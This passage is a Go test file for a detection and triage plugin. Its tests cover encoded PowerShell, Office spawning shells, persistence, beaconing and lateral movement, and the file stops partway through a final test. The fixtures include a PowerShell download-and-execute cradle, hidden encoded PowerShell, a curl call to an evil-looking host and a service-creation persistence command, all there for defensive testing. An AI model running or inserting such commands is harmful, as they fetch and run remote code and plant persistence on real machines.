package main

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lhk-soc/lhk/pdk"
)

var t0 = time.Date(2026, 11, 6, 9, 0, 0, 0, time.UTC)

func at(d time.Duration) string { return t0.Add(d).Format(time.RFC3339Nano) }

func TestPowerShellMarkers(t *testing.T) {
	tests := []struct {
		name, proc, cmd string
		want            []string
		decoded         string
	}{
		{"Enc", "powershell.exe", "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAA9AE4AZQB3AC0ATwBiAGoAZQBjAHQA", []string{"-enc"}, "$client=New-Object"},
		{"ShortE", "powershell.exe", "powershell -e SQBFAFgA", []string{"-e"}, "IEX"},
		{"EncodedCommandSlash", "pwsh.exe", "pwsh /EncodedCommand SQBFAFgA", []string{"/encodedcommand"}, "IEX"},
		{"CradleViaCmd", "cmd.exe", `cmd /c powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')`, []string{"IEX", "DownloadString"}, ""},
		{"FromBase64", "powershell.exe", `powershell [Convert]::FromBase64String($s)`, []string{"FromBase64String"}, ""},
		{"ExecutionPolicyIsNotEncoded", "powershell.exe", "powershell.exe -ep bypass -File C:\\it\\inventory.ps1", nil, ""},
		{"PlainPowerShell", "powershell.exe", "powershell.exe Get-Process", nil, ""},
		{"IexploreIsNotIEX", "powershell.exe", `powershell Start-Process iexplore.exe`, nil, ""},
		{"NotPowerShell", "certutil.exe", "certutil -e -f x.bin", nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, dec := PowerShellMarkers(tt.proc, tt.cmd)
			if !slices.Equal(got, tt.want) {
				t.Errorf("markers = %q, want %q", got, tt.want)
			}
			if dec != tt.decoded {
				t.Errorf("decoded = %q, want %q", dec, tt.decoded)
			}
		})
	}
}

func node(pid, name, parent, cmd string, kids ...*pdk.ProcessNode) *pdk.ProcessNode {
	return &pdk.ProcessNode{PID: pid, Name: name, ParentName: parent, CommandLine: cmd, EventID: "ev-" + pid, Start: t0, Children: kids}
}

func TestProcessFindings(t *testing.T) {
	tests := []struct {
		name  string
		roots []*pdk.ProcessNode
		want  []string // rule/severity
	}{
		{"WordSpawnsEncodedPowerShell", []*pdk.ProcessNode{
			node("100", "WINWORD.EXE", "explorer.exe", `"WINWORD.EXE" /n Invoice.docm`,
				node("200", "powershell.exe", "", "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAA9AE4AZQB3AC0ATwBiAGoAZQBjAHQA")),
		}, []string{"encoded-powershell/high", "office-spawns-shell/high"}},
		{"MshtaSpawnsCmd", []*pdk.ProcessNode{node("1", "cmd.exe", `C:\Windows\System32\mshta.exe`, "cmd /c whoami")}, []string{"office-spawns-shell/high"}},
		{"ExplorerSpawnsPowerShell", []*pdk.ProcessNode{node("1", "explorer.exe", "", "", node("2", "powershell.exe", "", "powershell Get-ChildItem"))}, nil},
		{"ExcelOpensExcel", []*pdk.ProcessNode{node("1", "excel.exe", "EXCEL.EXE", "excel /dde")}, nil},
		{"ServiceCreate", []*pdk.ProcessNode{node("1", "sc.exe", "cmd.exe", `sc.exe create Updater binPath= "C:\Users\Public\u.exe"`)}, []string{"service-persistence/high"}},
		{"ServiceCreatePlain", []*pdk.ProcessNode{node("1", "sc.exe", "services.exe", `sc create Backup binPath= "C:\Program Files\Backup\agent.exe"`)}, []string{"service-persistence/medium"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, f := range processFindings(flatten(tt.roots)) {
				got = append(got, f.Rule+"/"+f.Severity)
				if len(f.Evidence) == 0 {
					t.Errorf("%s has no evidence", f.Rule)
				}
			}
			slices.Sort(got)
			if !slices.Equal(got, tt.want) {
				t.Errorf("findings = %q, want %q", got, tt.want)
			}
		})
	}
	// The parent's name from the tree appears in the finding.
	fs := processFindings(flatten([]*pdk.ProcessNode{node("100", "WINWORD.EXE", "", "", node("200", "powershell.exe", "", "powershell -enc SQBFAFgA"))}))
	if !strings.Contains(fs[0].What, "started by WINWORD.EXE") || !strings.Contains(fs[0].What, `"IEX"`) {
		t.Errorf("what = %q", fs[0].What)
	}
}

func TestRegistryFindings(t *testing.T) {
	runKey := `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate`
	tests := []struct {
		name string
		ev   pdk.Event
		want string // rule/severity or ""
	}{
		{"RunKeyByPowerShell", pdk.Event{"_id": "r1", "registry.path": runKey, "process.name": "powershell.exe", "Details": `C:\Users\hsato\AppData\Roaming\upd.exe`}, "run-key-persistence/high"},
		{"RunKeyRawSysmon", pdk.Event{"TargetObject": `HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\RunOnce\x`, "Image": `C:\Tools\setup.exe`, "Details": `C:\Program Files\Tool\tool.exe`}, "run-key-persistence/medium"},
		{"SelfRegistration", pdk.Event{"TargetObject": `HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive`, "Image": `C:\Program Files\Microsoft OneDrive\OneDrive.exe`, "Details": `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`}, "run-key-persistence/low"},
		{"TeamsInAppData", pdk.Event{"TargetObject": `HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\com.squirrel.Teams.Teams`, "Image": `C:\Users\u\AppData\Local\Microsoft\Teams\current\Teams.exe`, "Details": `C:\Users\u\AppData\Local\Microsoft\Teams\Update.exe --processStart "Teams.exe"`}, "run-key-persistence/medium"},
		{"RunKeyDataList", pdk.Event{"registry.path": runKey, "registry.data.strings": []any{"powershell -w hidden -enc AAAA"}}, "run-key-persistence/high"},
		{"RunKeyDeleted", pdk.Event{"registry.path": runKey, "event.action": "registry-key-created-or-deleted", "EventType": "DeleteValue"}, ""},
		{"ServiceImagePath", pdk.Event{"registry.path": `HKLM\System\CurrentControlSet\Services\evilsvc\ImagePath`, "Details": `%COMSPEC% /c powershell -enc AAAA`}, "service-persistence/high"},
		{"OtherKey", pdk.Event{"registry.path": `HKCU\Software\Microsoft\Office\16.0\Word\MRU\Item 1`, "process.name": "WINWORD.EXE"}, ""},
		{"RunMRUIsNotRun", pdk.Event{"registry.path": `HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a`, "process.name": "explorer.exe"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := registryFindings([]pdk.Event{tt.ev}, nil)
			got := ""
			if len(fs) > 0 {
				got = fs[0].Rule + "/" + fs[0].Severity
			}
			if got != tt.want || len(fs) > 1 {
				t.Errorf("findings = %v, want %s", fs, tt.want)
			}
		})
	}
	fs := registryFindings([]pdk.Event{{"registry.path": runKey, "process.name": "powershell.exe"}}, nil)
	if !strings.Contains(fs[0].What, runKey) || !strings.Contains(fs[0].What, "powershell.exe") {
		t.Errorf("what = %q", fs[0].What)
	}
}

// conns returns n connections to ip every period, shifted by jitter(i).
func conns(ip, domain string, n int, period time.Duration, jitter func(i int) time.Duration) []pdk.Event {
	var out []pdk.Event
	for i := range n {
		e := pdk.Event{"_id": fmt.Sprintf("%s-%d", ip, i), "@timestamp": at(time.Duration(i)*period + jitter(i)),
			"destination.ip": ip, "destination.port": 443.0, "source.ip": "10.20.1.17", "process.name": "powershell.exe"}
		if domain != "" {
			e["destination.domain"] = domain
		}
		out = append(out, e)
	}
	return out
}

func TestBeaconCandidates(t *testing.T) {
	none := func(int) time.Duration { return 0 }
	wobble := func(i int) time.Duration { return time.Duration((i*7)%11-5) * time.Second } // ±5 s on 60 s
	random := func(i int) time.Duration { return time.Duration((i*i*7919)%3000) * time.Second }
	cfg := DefaultConfig()
	tests := []struct {
		name   string
		events []pdk.Event
		want   []string
	}{
		{"Regular", conns("203.0.113.66", "cdn-update.example-c2.net", 30, time.Minute, none), []string{"203.0.113.66"}},
		{"Jittered", conns("203.0.113.66", "", 30, time.Minute, wobble), []string{"203.0.113.66"}},
		{"MissedBeats", slices.Delete(conns("203.0.113.66", "", 30, time.Minute, none), 10, 12), []string{"203.0.113.66"}},
		{"Irregular", conns("198.51.100.7", "", 30, time.Minute, random), nil},
		{"TooFew", conns("203.0.113.66", "", 5, time.Minute, none), nil},
		{"Internal", conns("10.20.0.10", "", 30, time.Minute, none), nil},
		{"Burst", conns("203.0.113.66", "", 30, time.Second/2, none), nil},
		{"DuplicateRecordsAreOneConnection", append(conns("203.0.113.66", "", 30, time.Minute, none), conns("203.0.113.66", "", 30, time.Minute, func(int) time.Duration { return 200 * time.Millisecond })...), []string{"203.0.113.66"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, b := range beaconCandidates(tt.events, cfg) {
				got = append(got, b.IP)
				if b.Count != 30 && !strings.Contains(tt.name, "Missed") {
					t.Errorf("count = %d, want 30", b.Count)
				}
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("candidates = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestBeaconDomainFromDNS(t *testing.T) {
	evs := conns("203.0.113.66", "", 20, time.Minute, func(int) time.Duration { return 0 })
	evs = append(evs, pdk.Event{"dns.question.name": "CDN-Update.example-c2.net", "QueryResults": "type:  5 x;::ffff:203.0.113.66;"})
	bs := beaconCandidates(evs, DefaultConfig())
	if len(bs) != 1 || bs[0].Domain != "cdn-update.example-c2.net" {
		t.Fatalf("beacons = %+v", bs)
	}
}

func TestBeaconFindings(t *testing.T) {
	b := Beacon{IP: "203.0.113.66", Domain: "c2.example", Ports: []string{"443"}, Count: 40, Beat: time.Minute, Regular: 1, First: t0, Last: t0.Add(40 * time.Minute)}
	tests := []struct {
		name  string
		hosts int
		sev   string
		obs   int
	}{
		{"Rare", 1, pdk.SeverityHigh, 2},
		{"Common", 40, pdk.SeverityLow, 0},
		{"Unknown", -1, pdk.SeverityMedium, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b.Hosts = tt.hosts
			f := beaconFindings([]Beacon{b}, DefaultConfig())[0]
			if f.Severity != tt.sev || len(f.Observables) != tt.obs {
				t.Errorf("finding = %+v", f)
			}
			if !strings.Contains(f.What, "203.0.113.66 (c2.example) port 443") || !strings.Contains(f.What, "every 1m0s") {
				t.Errorf("what = %q", f.What)
			}
		})
	}
}

func TestHostRole(t *testing.T) {
	tests := []struct {
		name  string
		asset *pdk.Asset
		host  string
		want  string
	}{
		{"ServerOS", &pdk.Asset{Name: "FILES", OS: "Windows Server 2022"}, "FILES", RoleServer},
		{"WorkstationOS", &pdk.Asset{Name: "X1", OS: "Windows 11 Enterprise"}, "X1", RoleWorkstation},
		{"Tag", &pdk.Asset{Name: "X2", Tags: []string{"Domain-Controller"}}, "X2", RoleServer},
		{"NameServer", nil, "ACME-FS-01", RoleServer},
		{"NameDC", nil, "dc01.corp.local", RoleServer},
		{"NameWorkstation", nil, "ACME-WS-017", RoleWorkstation},
		{"AssetNameOnly", &pdk.Asset{Name: "ACME-SRV-DB"}, "", RoleServer},
		{"Unknown", nil, "printer7", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := HostRole(tt.asset, tt.host); got != tt.want {
				t.Errorf("HostRole = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestLateralLogons(t *testing.T) {
	ws := &pdk.Asset{Name: "ACME-WS-017", IPs: []string{"10.20.1.17"}, OS: "Windows 11"}
	inventory := map[string]*pdk.Asset{
		"acme-fs-01": {Name: "ACME-FS-01", IPs: []string{"10.20.0.10"}, OS: "Windows Server 2022"},
		"10.20.1.30": {Name: "ACME-WS-030", OS: "Windows 11"},
	}
	lookup := func(h string) *pdk.Asset { return inventory[strings.ToLower(h)] }
	logon := func(host, typ, user, src string, extra ...any) pdk.Event {
		e := pdk.Event{"_id": host + user + typ, "@timestamp": at(0), "host.name": host, "event.code": "4624", "event.category": "authentication",
			"event.outcome": "success", "winlog.logon.type": typ, "user.target.name": user, "user.target.domain": "ACME", "source.ip": src,
			"AuthenticationPackageName": "Kerberos"}
		for i := 0; i < len(extra); i += 2 {
			e[extra[i].(string)] = extra[i+1]
		}
		return e
	}
	ntlm := []any{"AuthenticationPackageName", "NTLM"}
	tests := []struct {
		name     string
		host     string
		asset    *pdk.Asset
		ev       pdk.Event
		before   int
		hostHigh bool
		want     string // severity, "" for none
	}{
		{"StoryNTLMNewAfterCompromise", "ACME-WS-017", ws, logon("ACME-FS-01", "Network", "hsato", "10.20.1.17", ntlm...), 0, true, pdk.SeverityHigh},
		{"NewAfterCompromise", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17"), 0, true, pdk.SeverityHigh},
		{"RoutineAfterCompromise", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17"), 12, true, pdk.SeverityMedium},
		{"RoutineQuietHost", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17"), 12, false, pdk.SeverityLow},
		{"NewQuietHost", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17"), 0, false, pdk.SeverityMedium},
		{"UnknownHistory", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17"), -1, false, pdk.SeverityLow},
		{"UnknownHistoryNTLM", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17", ntlm...), -1, false, pdk.SeverityMedium},
		{"InboundToServerNTLMNew", "ACME-FS-01", inventory["acme-fs-01"], logon("ACME-FS-01", "RemoteInteractive", "jdoe", "10.20.1.30", ntlm...), 0, true, pdk.SeverityHigh},
		{"InboundToServerRoutine", "ACME-FS-01", inventory["acme-fs-01"], logon("ACME-FS-01", "10", "jdoe", "10.20.1.30"), 3, true, pdk.SeverityLow},
		{"Interactive", "ACME-WS-017", ws, logon("ACME-FS-01", "Interactive", "hsato", "10.20.1.17"), 0, true, ""},
		{"MachineAccount", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "ACME-WS-017$", "10.20.1.17"), 0, true, ""},
		{"Failed", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17", "event.outcome", "failure"), 0, true, ""},
		{"Loopback", "ACME-FS-01", inventory["acme-fs-01"], logon("ACME-FS-01", "3", "hsato", "127.0.0.1"), 0, true, ""},
		{"WorkstationToWorkstation", "ACME-WS-017", ws, logon("ACME-WS-030", "3", "hsato", "10.20.1.17"), 0, true, ""},
		{"ExplicitCredentials", "ACME-WS-017", ws, pdk.Event{"host.name": "ACME-WS-017", "event.code": "4648", "user.target.name": "admin", "TargetServerName": "ACME-FS-01"}, -1, true, pdk.SeverityMedium},
		{"ExplicitCredentialsQuiet", "ACME-WS-017", ws, pdk.Event{"host.name": "ACME-WS-017", "event.code": "4648", "user.target.name": "admin", "TargetServerName": "ACME-FS-01"}, -1, false, pdk.SeverityLow},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cands := lateralCandidates(tt.host, tt.asset, nil, []pdk.Event{tt.ev}, lookup)
			for _, c := range cands {
				c.Before = tt.before
			}
			fs := lateralFindings(cands, tt.hostHigh)
			got := ""
			if len(fs) > 0 {
				got = fs[0].Severity
			}
			if got != tt.want || len(fs) > 1 {
				t.Fatalf("findings = %+v, want %q", fs, tt.want)
			}
			if got != "" && !strings.Contains(fs[0].What, "ACME-FS-01") {
				t.Errorf("what = %q", fs[0].What)
			}
		})
	}
	// Routine logons beyond the first few are summed up.
	var many []*Lateral
	for i := range 12 {
		many = append(many, &Lateral{Src: fmt.Sprint("WS", i), Dst: "DC", User: "u", Kind: "network logon (type 3)", Count: 2, Before: 4})
	}
	if fs := lateralFindings(many, false); len(fs) != maxRoutineLogons+1 || !strings.HasPrefix(fs[maxRoutineLogons].What, "14 more logons") {
		t.Errorf("many routine logons: %d findings, last %+v", len(fs), fs[len(fs)-1])
	}
	// Without an inventory entry the host's searched addresses make a logon
	// outbound.
	cands := lateralCandidates("ACME-WS-017", nil, []string{"10.20.1.17"}, []pdk.Event{logon("ACME-FS-01", "3", "hsato", "10.20.1.17")}, lookup)
	if len(cands) != 1 || !cands[0].Outbound || cands[0].Src != "ACME-WS-017" || cands[0].DstName != "ACME-FS-01" {
		t.Errorf("candidates = %+v", cands)
	}
}

func TestIOCFindings(t *testing.T) {
	c := &pdk.Collection{
		Network: []pdk.Event{{"_id": "n1", "destination.ip": "203.0.113.66", "destination.domain": "cdn-update.example-c2.net"},
			{"_id": "n2", "destination.ip": "203.0.113.6"}},
		Files: []pdk.Event{{"_id": "f1", "file.path": `C:\x\a.exe`, "file.hash.sha256": strings.Repeat("ab", 32)}},
	}
	procs := flatten([]*pdk.ProcessNode{node("1", "curl.exe", "", "curl https://evil.example.org/x")})
	iocs := []string{"203.0.113.66", "example-c2.net", strings.Repeat("ab", 32), "example.org", "198.51.100.1"}
	fs := iocFindings(iocs, c, procs, nil)
	got := map[string]string{}
	for _, f := range fs {
		got[f.Observables[0].Value] = f.Observables[0].Type + fmt.Sprint(len(f.Evidence))
	}
	want := map[string]string{"203.0.113.66": "ip1", "example-c2.net": "domain1", strings.Repeat("ab", 32): "hash1", "example.org": "domain1"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("matches = %v, want %v", got, want)
	}
}

func TestParseInputAndConfig(t *testing.T) {
	tests := []struct {
		name, in, err string
	}{
		{"Host", `{"tenant":"acme","host":"WS1","time":"2026-11-06T09:00:00Z","window_minutes":30}`, ""},
		{"Ticket", `{"ticket":"T-1"}`, ""},
		{"Empty", ``, "input is empty"},
		{"NotJSON", `host=WS1`, "input is not"},
		{"NoHost", `{"tenant":"acme"}`, `needs "host"`},
		{"NoTenant", `{"host":"WS1"}`, `needs "tenant"`},
		{"BadTime", `{"tenant":"acme","host":"WS1","time":"yesterday"}`, "input is not"},
		{"HugeWindow", `{"tenant":"acme","host":"WS1","window_minutes":100000}`, "window_minutes"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseInput([]byte(tt.in))
			if (err == nil) != (tt.err == "") || err != nil && !strings.Contains(err.Error(), tt.err) {
				t.Errorf("err = %v, want %q", err, tt.err)
			}
		})
	}
	cfg, err := ParseConfig(func(k string) (string, bool) {
		v, ok := map[string]string{"iocs": "203.0.113.66, Evil.example ;abc", "beacon_min": "5", "window_minutes": "90"}[k]
		return v, ok
	})
	if err != nil || !slices.Equal(cfg.IOCs, []string{"203.0.113.66", "evil.example", "abc"}) || cfg.BeaconMin != 5 || cfg.Window != 90*time.Minute {
		t.Errorf("config = %+v, %v", cfg, err)
	}
	if _, err := ParseConfig(func(k string) (string, bool) { return "lots", k == "collect_limit" }); err == nil || !strings.Contains(err.Error(), "collect_limit") {
		t.Errorf("bad config err = %v", err)
	}
}

func TestTicketTime(t *testing.T) {
	created := time.Date(2026, 11, 27, 0, 0, 0, 0, time.UTC)
	tests := []struct {
		desc string
		want time.Time
	}{
		{"SIEM alert\n\n- **Time**: `2026-11-06T09:00:00Z`\n- host: X", t0},
		{"time: 2026-11-06T10:00:00+01:00", t0},
		{"no time here 2026-11-06T09:00:00Z", created},
	}
	for i, tt := range tests {
		if got := ticketTime(&pdk.Ticket{Description: tt.desc, CreatedAt: created}); !got.Equal(tt.want) {
			t.Errorf("%d: ticketTime = %v, want %v", i, got, tt.want)
		}
	}
}

// fakeSystems is Systems over in-memory data.
type fakeSystems struct {
	grant    pdk.Grant
	tickets  map[string]*pdk.Ticket // tenant/id
	assets   map[string]*pdk.Asset  // tenant/lower(name or ip)
	col      *pdk.Collection
	logons   []pdk.Event
	hosts    int // answer of Top
	collects []pdk.CollectRequest
	comments []string
	added    []pdk.Observable
	tops     int
	before   int                    // answer of Count
	dests    []pdk.Bucket           // answer of Top by destination.ip
	byDest   map[string][]pdk.Event // connections by destination, for SearchFields
	fetches  []string
	counts   []pdk.CountRequest
	persist  []pdk.Event // answers of SearchFields by event.code
	text     []pdk.Event // answers of Search, matched as substrings
	searches []string
}

func (f *fakeSystems) Grant() (*pdk.Grant, error) { return &f.grant, nil }
func (f *fakeSystems) GetTicket(tenant, id string) (*pdk.Ticket, error) {
	if !slices.Contains(f.grant.Tenants, tenant) {
		return nil, &pdk.Error{Code: pdk.CodeForbidden, Message: "tenant " + tenant + " is not granted"}
	}
	if t := f.tickets[tenant+"/"+id]; t != nil {
		return t, nil
	}
	return nil, &pdk.Error{Code: pdk.CodeNotFound, Message: "no ticket " + id}
}
func (f *fakeSystems) CommentTicket(tenant, id, body string) (*pdk.Ticket, error) {
	f.comments = append(f.comments, body)
	return f.tickets[tenant+"/"+id], nil
}
func (f *fakeSystems) UpdateTicket(tenant, id string, upd pdk.TicketUpdate) (*pdk.Ticket, error) {
	f.added = append(f.added, upd.AddObservables...)
	return f.tickets[tenant+"/"+id], nil
}
func (f *fakeSystems) LookupAsset(tenant, host string) (*pdk.Asset, error) {
	if a := f.assets[tenant+"/"+strings.ToLower(host)]; a != nil {
		return a, nil
	}
	return nil, &pdk.Error{Code: pdk.CodeNotFound, Message: "no asset " + host}
}
func (f *fakeSystems) Collect(req pdk.CollectRequest) (*pdk.Collection, error) {
	f.collects = append(f.collects, req)
	return f.col, nil
}
func (f *fakeSystems) Search(req pdk.SearchRequest) (*pdk.SearchResult, error) {
	f.searches = append(f.searches, req.Query)
	var out []pdk.Event
	for _, e := range f.text {
		if strings.Contains(strings.ToLower(fmt.Sprint(map[string]any(e))), strings.Trim(req.Query, `"`)) {
			out = append(out, e)
		}
	}
	return &pdk.SearchResult{Events: out}, nil
}
func (f *fakeSystems) SearchFields(req pdk.FieldSearchRequest) (*pdk.SearchResult, error) {
	for _, c := range req.Fields {
		if c.Field == "event.code" {
			var out []pdk.Event
			for _, e := range f.persist {
				if e["event.code"] == c.Value {
					out = append(out, e)
				}
			}
			return &pdk.SearchResult{Events: out}, nil
		}
		if c.Field == "destination.ip" {
			f.fetches = append(f.fetches, fmt.Sprint(c.Value))
			return &pdk.SearchResult{Events: f.byDest[fmt.Sprint(c.Value)]}, nil
		}
	}
	return &pdk.SearchResult{Events: f.logons}, nil
}
func (f *fakeSystems) Top(req pdk.TopRequest) (*pdk.TopResult, error) {
	if req.Field == "destination.ip" {
		return &pdk.TopResult{Field: req.Field, Buckets: f.dests}, nil
	}
	f.tops++
	var bs []pdk.Bucket
	for i := range f.hosts {
		bs = append(bs, pdk.Bucket{Value: fmt.Sprint("H", i), Count: 1})
	}
	return &pdk.TopResult{Field: req.Field, Buckets: bs}, nil
}
func (f *fakeSystems) Count(req pdk.CountRequest) (*pdk.CountResult, error) {
	f.counts = append(f.counts, req)
	return &pdk.CountResult{Count: int64(f.before)}, nil
}
func (f *fakeSystems) Logf(pdk.Level, string, ...any) {}

// storySystems holds a compromised workstation's telemetry.
func storySystems() *fakeSystems {
	ws := &pdk.Asset{Tenant: "acme", Name: "ACME-WS-017", IPs: []string{"10.20.1.17"}, OS: "Windows 11", Owner: "hsato"}
	fs01 := &pdk.Asset{Tenant: "acme", Name: "ACME-FS-01", IPs: []string{"10.20.0.10"}, OS: "Windows Server 2022"}
	return &fakeSystems{
		grant: pdk.Grant{Tenants: []string{"globex", "acme"}},
		tickets: map[string]*pdk.Ticket{"acme/T-1": {ID: "T-1", Tenant: "acme", Description: "Alert\n\n- time: 2026-11-06T09:00:00Z",
			Observables: []pdk.Observable{{Type: pdk.ObservableIP, Value: "10.20.1.17"}}}},
		assets: map[string]*pdk.Asset{"acme/acme-ws-017": ws, "acme/10.20.1.17": ws, "acme/acme-fs-01": fs01},
		col: &pdk.Collection{
			Processes: []*pdk.ProcessNode{node("100", "WINWORD.EXE", "explorer.exe", "WINWORD.EXE Invoice.docm",
				node("200", "powershell.exe", "", "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAA9AE4AZQB3AC0ATwBiAGoAZQBjAHQA"))},
			Network:  conns("203.0.113.66", "cdn-update.example-c2.net", 40, time.Minute, func(int) time.Duration { return 0 }),
			Registry: []pdk.Event{{"_id": "r1", "registry.path": `HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate`, "process.name": "powershell.exe"}},
		},
		logons: []pdk.Event{{"_id": "l1", "host.name": "ACME-FS-01", "event.code": "4624", "winlog.logon.type": "Network",
			"user.target.name": "hsato", "source.ip": "10.20.1.17"}},
		hosts: 1,
	}
}

func TestTriageTicket(t *testing.T) {
	sys := storySystems()
	out, err := Triage(sys, Input{Ticket: "T-1"}, DefaultConfig(), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	// The ticket was found in the second granted tenant; the host from its ip
	// observable through the inventory; the time from its description.
	if out.Tenant != "acme" || out.Host != "ACME-WS-017" || !out.From.Equal(t0.Add(-time.Hour)) || !out.To.Equal(t0.Add(time.Hour)) {
		t.Fatalf("target = %s %s %s–%s", out.Tenant, out.Host, out.From, out.To)
	}
	var rules []string
	for _, f := range out.Findings {
		rules = append(rules, f.Rule+"/"+f.Severity)
	}
	want := []string{"beaconing/high", "encoded-powershell/high", "lateral-logon/high", "office-spawns-shell/high", "run-key-persistence/high"}
	if !slices.Equal(rules, want) {
		t.Errorf("findings = %q, want %q", rules, want)
	}
	if len(sys.comments) != 1 {
		t.Fatalf("%d comments", len(sys.comments))
	}
	for _, s := range []string{"WINWORD.EXE", "203.0.113.66", "cdn-update.example-c2.net", `CurrentVersion\Run\OneDriveUpdate`, "ACME-FS-01", "| high | beaconing |"} {
		if !strings.Contains(sys.comments[0], s) {
			t.Errorf("comment lacks %q:\n%s", s, sys.comments[0])
		}
	}
	if want := []pdk.Observable{{Type: "ip", Value: "203.0.113.66"}, {Type: "domain", Value: "cdn-update.example-c2.net"}}; !slices.Equal(sys.added, want) {
		t.Errorf("observables = %v, want %v", sys.added, want)
	}
	if len(sys.counts) != 1 || fmt.Sprint(sys.counts[0].Fields) != fmt.Sprint([]pdk.Condition{pdk.Eq("event.code", "4624"), pdk.Eq("host.name", "ACME-FS-01"), pdk.Eq("source.ip", "10.20.1.17")}) ||
		!sys.counts[0].To.Equal(out.From) {
		t.Errorf("logon history requests = %+v", sys.counts)
	}
	if out.Counts["findings_high"] != 5 || out.Counts["logons_from_host"] != 1 {
		t.Errorf("counts = %v", out.Counts)
	}
}

func TestTriageHostErrors(t *testing.T) {
	tests := []struct {
		name string
		in   Input
		edit func(*fakeSystems)
		err  string
	}{
		{"UnknownTicket", Input{Ticket: "T-9"}, nil, "not found in the granted tenants"},
		{"TicketOfUngrantedTenant", Input{Ticket: "T-1", Tenant: "initech"}, nil, "forbidden"},
		{"AllTenantsNeedsTenant", Input{Ticket: "T-1"}, func(f *fakeSystems) { f.grant.Tenants = []string{"*"} }, `name the ticket's "tenant"`},
		{"TicketWithoutHost", Input{Ticket: "T-1", Tenant: "acme"}, func(f *fakeSystems) { f.tickets["acme/T-1"].Observables = nil }, "no host or ip observable"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sys := storySystems()
			if tt.edit != nil {
				tt.edit(sys)
			}
			_, err := Triage(sys, tt.in, DefaultConfig(), time.Now())
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Fatalf("err = %v, want %q", err, tt.err)
			}
			if len(sys.collects) != 0 || len(sys.comments) != 0 {
				t.Errorf("work done despite the error")
			}
		})
	}
}

func TestTriageQuietHost(t *testing.T) {
	sys := &fakeSystems{col: &pdk.Collection{
		Processes: []*pdk.ProcessNode{node("1", "explorer.exe", "", "", node("2", "OUTLOOK.EXE", "", "OUTLOOK.EXE"))},
		Network:   conns("52.96.0.1", "outlook.office365.com", 60, time.Minute, func(int) time.Duration { return 0 }),
	}, hosts: 300}
	out, err := Triage(sys, Input{Tenant: "acme", Host: "ACME-WS-001", WindowMinutes: 30}, DefaultConfig(), t0)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range out.Findings {
		if severityRank(f.Severity) <= severityRank(pdk.SeverityMedium) {
			t.Errorf("quiet host has finding %+v", f)
		}
	}
	if len(sys.comments) != 0 || len(sys.collects) != 1 || sys.collects[0].Limit != defaultCollectLimit || !sys.collects[0].From.Equal(t0.Add(-30*time.Minute)) {
		t.Errorf("comments %d, collects %+v", len(sys.comments), sys.collects)
	}
	if out.Asset != nil || !strings.Contains(out.Summary, "not in the asset inventory") {
		t.Errorf("asset %v, summary:\n%s", out.Asset, out.Summary)
	}
}

func TestTriageNothingFound(t *testing.T) {
	// A host with no telemetry at all in the window, and an asset without
	// addresses or tags: every list of the output is [], never null.
	sys := &fakeSystems{col: &pdk.Collection{}, assets: map[string]*pdk.Asset{"acme/acme-ws-002": {Tenant: "acme", Name: "ACME-WS-002"}}}
	out, err := Triage(sys, Input{Tenant: "acme", Host: "ACME-WS-002"}, DefaultConfig(), t0)
	if err != nil {
		t.Fatal(err)
	}
	b, err := json.Marshal(out)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"findings":[]`, `"sweeps":[]`, `"notes":[]`, `"ips":[]`, `"tags":[]`} {
		if !strings.Contains(string(b), want) {
			t.Errorf("output lacks %s: %s", want, b)
		}
	}
	if strings.Contains(string(b), "null") {
		t.Errorf("output holds null: %s", b)
	}
	if !strings.Contains(out.Summary, "**No findings.**") {
		t.Errorf("summary:\n%s", out.Summary)
	}
}

func TestTriageBusyHostBeacon(t *testing.T) {
	// The collection is full of chatter to one address; the beacon shows
	// only when the host's destinations are counted over the window.
	var chatter []pdk.Event
	for i := range 50 {
		chatter = append(chatter, pdk.Event{"_id": fmt.Sprint("c", i), "@timestamp": at(time.Duration(i*i) * time.Second),
			"host.name": "ACME-FS-09", "destination.ip": "52.98.152.2"})
	}
	beacon := conns("203.0.113.99", "busy-c2.example.net", 100, time.Minute, func(int) time.Duration { return 0 })
